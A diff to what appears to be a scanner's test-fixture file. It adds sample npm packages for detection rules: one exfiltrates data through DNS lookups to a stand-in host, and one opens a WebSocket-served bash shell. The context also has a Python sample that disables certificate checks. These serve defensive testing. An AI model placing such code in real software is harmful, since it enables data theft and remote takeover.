@@ -86,6 +86,21 @@ let executionFixtures = RuleFixtures(
 
                 """)
         },
+        .nameComputed: {
+            try npmCode(
+                "const dns = require('dns')\nexports.ask = (a) => dns.lookup(a + '.drop.x.example', () => {})\n")
+        },
+        .listeningShell: {
+            try npmCode(
+                """
+                const { WebSocketServer } = require('ws'), pty = require('node-pty')
+                exports.serve = port => new WebSocketServer({ port }).on('connection', w => {
+                  const p = pty.spawn('bash', [])
+                  p.onData(d => w.send(d))
+                })
+
+                """)
+        },
         .certificatesUnchecked: {
             try wheelCode("import requests\nrequests.get('https://x.example', verify=False)\n")
         },
